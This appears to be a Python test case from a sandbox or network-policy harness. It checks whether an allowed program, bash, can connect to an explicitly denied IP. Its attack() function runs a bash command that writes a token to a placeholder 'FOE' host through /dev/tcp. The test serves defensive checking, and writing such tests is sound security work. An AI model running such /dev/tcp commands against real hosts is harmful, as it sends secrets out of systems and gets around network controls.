"""A connection by an allowed program
Has bash, which is allowed, connect.
policy: network-of-children
audit: explicitlyDeniedIP
proof: arrival
"""
import subprocess


def attack(at):
    subprocess.call(['/usr/bin/bash', '-c', 'echo %s > /dev/tcp/%s/%d' % (at.token.decode(), at.FOE, at.PORT)])
    return True
